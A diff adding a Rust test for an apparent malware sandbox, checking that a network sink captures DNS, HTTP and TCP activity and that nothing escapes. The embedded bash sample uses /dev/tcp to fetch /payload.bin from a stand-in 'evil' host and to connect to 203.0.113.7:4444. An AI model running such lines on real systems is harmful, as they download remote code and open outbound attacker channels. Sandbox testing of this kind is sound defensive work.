@@ -415,3 +415,88 @@ fn fork_bomb_memory_hog_and_sleep_forever_are_contained() {
     assert!(t0.elapsed() < Duration::from_secs(40));
     assert_no_leftovers(uid_base);
 }
+
+#[test]
+fn network_sink_answers_dns_and_http_and_everything_is_captured() {
+    let uid_base = 240_000;
+    let s = sandbox_server(uid_base);
+    let host = TcpListener::bind("127.0.0.1:0").unwrap();
+    host.set_nonblocking(true).unwrap();
+    let port = host.local_addr().unwrap().port();
+    let script = format!(
+        "#!/bin/bash\n\
+         getent hosts evil.example.com > /tmp/resolved.txt\n\
+         exec 3<>/dev/tcp/update.evil-domain.test/80\n\
+         printf 'GET /payload.bin?id=7 HTTP/1.1\\r\\nHost: update.evil-domain.test\\r\\nUser-Agent: nestbox-test/1.0\\r\\nConnection: close\\r\\n\\r\\n' >&3\n\
+         cat <&3 > /tmp/page.html\n\
+         (exec 4<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null\n\
+         (exec 5<>/dev/tcp/203.0.113.7/4444 && echo hi >&5) 2>/dev/null\n\
+         exit 0\n"
+    );
+    let id = submit(&s, "net.sh", script.as_bytes(), 30, "");
+    let r = report(&s, id);
+    let net = &r["network"];
+    let dns: Vec<&str> = net["dns"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|d| d["request"].as_str().unwrap())
+        .collect();
+    assert!(dns.contains(&"evil.example.com"), "{net} {}", r["debug"]);
+    assert!(dns.contains(&"update.evil-domain.test"), "{}", net["dns"]);
+    assert!(
+        net["domains"]
+            .as_array()
+            .unwrap()
+            .contains(&serde_json::json!({"domain": "evil.example.com", "ip": "10.0.2.2"}))
+    );
+    let http = &net["http"][0];
+    assert_eq!(
+        http["host"], "update.evil-domain.test",
+        "{net} {}",
+        r["debug"]
+    );
+    assert_eq!(http["method"], "GET");
+    assert_eq!(http["path"], "/payload.bin");
+    assert_eq!(
+        http["uri"],
+        "http://update.evil-domain.test/payload.bin?id=7"
+    );
+    assert_eq!(http["user-agent"], "nestbox-test/1.0");
+    assert_eq!(http["port"], 80);
+    let tcp = net["tcp"].as_array().unwrap();
+    let has_flow = |dst: &str, dport: u16| {
+        tcp.iter()
+            .any(|f| f["dst"] == dst && f["dport"] == dport && f["src"].is_string())
+    };
+    assert!(has_flow("10.0.2.2", 80), "{tcp:?}");
+    // A literal IP is answered by the sink too (nothing leaves the machine).
+    assert!(has_flow("203.0.113.7", 4444), "{tcp:?}");
+    // The attempt at the host's loopback is in the capture, and it reached nothing.
+    assert!(has_flow("127.0.0.1", port), "{tcp:?}");
+    match host.accept() {
+        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
+        other => panic!("the sandbox reached the host's loopback: {other:?}"),
+    }
+    let hosts = strings(&net["hosts"]);
+    assert!(hosts.contains(&"203.0.113.7".to_owned()), "{hosts:?}");
+    let sum = &r["behavior"]["summary"];
+    assert!(
+        strings(&sum["resolves_host"]).contains(&"evil.example.com".to_owned()),
+        "{}",
+        sum["resolves_host"]
+    );
+    assert!(strings(&sum["connects_ip"]).contains(&"10.0.2.2".to_owned()));
+    // The sample got the sink's harmless page, and the pcap is served.
+    let tar = s.get(&format!("/tasks/report/{id}/dropped?tar=tar"));
+    let body = String::from_utf8_lossy(&tar.body);
+    assert!(body.contains("It works."), "{body}");
+    assert!(body.contains("10.0.2.2"), "resolved.txt: {body}");
+    let pcap = s.get(&format!("/pcap/get/{id}"));
+    assert_eq!(pcap.status, 200);
+    assert_eq!(&pcap.body[..4], &0xa1b2_c3d4u32.to_le_bytes());
+    let text = String::from_utf8_lossy(&pcap.body);
+    assert!(text.contains("GET /payload.bin?id=7"));
+    assert_eq!(net["pcap_sha256"].as_str().unwrap().len(), 64);
+    assert_no_leftovers(uid_base);
+}
